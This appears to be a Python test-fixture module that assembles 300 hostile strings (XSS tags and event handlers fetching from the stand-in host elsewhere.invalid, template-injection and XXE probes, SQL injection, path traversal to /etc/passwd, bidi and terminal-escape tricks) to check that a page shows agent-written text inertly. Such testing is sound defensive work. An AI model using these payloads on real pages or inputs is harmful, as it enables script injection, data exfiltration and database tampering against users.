"""300 texts that attack a page: what an agent may write anywhere, because anybody may tell it to.

Each that could run calls `alert`, asks for something at `elsewhere.invalid`, or sets
`window.hostile`; a page on which nothing of it happens, and which is not wider than before, has
shown it as text.
"""

from typing import Final

_CALL: Final = "window.hostile=1;alert(1);fetch('//elsewhere.invalid/x')"
_URL: Final = "//elsewhere.invalid/x"
# What may end the place where a text stands, so that what follows is read as something else.
_BREAKS: Final = (
    "", '"', "'", '">', "'>", "-->", "</title>", "</textarea>", "</style>", "</script>", "]]>",
    "</svg>", "</option></select>", "</bdi></p></main>", "`", "&quot;>", "&#34;&#62;",
)  # fmt: skip
_ELEMENTS: Final = (
    f"<script>{_CALL}</script>",
    f"<img src={_URL} onerror={_CALL}>",
    f'<svg onload="{_CALL}"><animate onbegin="{_CALL}" attributeName=x dur=1s>',
    f'<iframe srcdoc="<script>{_CALL}</script>"></iframe>',
    f'<a href="javascript:{_CALL}" autofocus onfocus="{_CALL}">x</a>',
    f"<link rel=stylesheet href={_URL}>",
    f"<style>@import '{_URL}';body{{display:none}}</style>",
    f'<form action={_URL}><input name=x autofocus onfocus="{_CALL}"></form>',
    f"<base href={_URL}>",
    f'<meta http-equiv=refresh content="0;url={_URL}">',
    f'<math><mtext><mglyph><style><img src={_URL} onerror="{_CALL}">',
    f'<details open ontoggle="{_CALL}">',
    f"<object data={_URL}></object>",
)
_ALONE: Final = (
    f"javascript:{_CALL}",
    f"JaVaScRiPt&colon;{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    f"vbscript:{_CALL}",
    f'" onmouseover="{_CALL}" x="',
    f"' autofocus onfocus='{_CALL}' x='",
    f'" style="background:url({_URL})',
    f"x onpointerover={_CALL} y",
    "{{ 7*7 }}",
    "{{ asked.service.settings }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# a comment #}",
    "{{ config }}{{ self }}{{ request }}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "[[${7*7}]]",
    f"<!--#include virtual='{_URL}'-->",
    f"<?xml-stylesheet href='{_URL}'?>",
    f"<!DOCTYPE x [<!ENTITY y SYSTEM '{_URL}'>]>&y;",
    f"<svg/onload={_CALL}>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    f"<<script>{_CALL}//<</script>",
    f"<img\tsrc={_URL}\nonerror={_CALL}>",
    f"<img/src={_URL}/onerror={_CALL}>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"＜script＞{_CALL}＜/script＞",
    f"<noscript><p title='</noscript><img src={_URL} onerror={_CALL}>'>",
    f"<template><script>{_CALL}</script></template>",
    f"<video><source onerror={_CALL}></video>",
    f"<body onload={_CALL}>",
    f"<marquee onstart={_CALL}>",
    f"<xss id=x tabindex=1 onfocusin={_CALL}></xss>",
    f"<use href=data:image/svg+xml,<svg/onload={_CALL}>>",
    f"<portal src={_URL}>",
    f"<audio src={_URL} autoplay>",
    f"<embed src={_URL}>",
    f"<picture><source srcset={_URL}><img></picture>",
    f"![x](http:{_URL})",
    f"[x](javascript:{_CALL})",
    "@import url(http://elsewhere.invalid/x);",
    "expression(alert(1))",
    "*{display:none}",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://elsewhere.invalid\x07link\x1b]8;;\x07",
    "\x1b[2J\x1b[H",
    "\x07\x08\x0b\x0c\x1f",
    "\x85\x90\x9b",
    "\ufeffwith a byte order mark",
    "\u202egnp.exe",
    "\u2066\u202e\u2069 isolated",
    "\u202a\u202b\u202c\u202d\u2067\u2068 unclosed",
    "\u200b\u200c\u200d\u2060 invisible",
    "\u2028line\u2029paragraph",
    "a" + "\u0301" * 500,
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a" * 20,
    "﷽" * 30,
    "𒐫" * 30,
    "👩‍👩‍👧‍👦" * 50,
    "W" * 3000,
    "/" * 3000,
    "very_long_identifier_" * 100,
    "https://elsewhere.invalid/" + "a" * 2000,
    "多" * 1000,
    "مرحبا " * 200,
    "\n" * 500 + "after many lines",
    "\t" * 200 + "after many tabs",
    " " * 2000 + "after many blanks",
    "1e309", "NaN", "-0", "null", "undefined", "true", "[object Object]", "__proto__",
    "constructor", "' OR 1=1 --", "'; DROP TABLE outcomes; --", "../../etc/passwd",
    "%3Cscript%3Ealert(1)%3C/script%3E", "%00", "\\0", "\\x3cscript\\x3e", "+ADw-script+AD4-",
)  # fmt: skip

HOSTILE_TEXTS: Final = tuple(
    [f"{before}{element}" for before in _BREAKS for element in _ELEMENTS][: 300 - len(_ALONE)]
) + tuple(_ALONE)
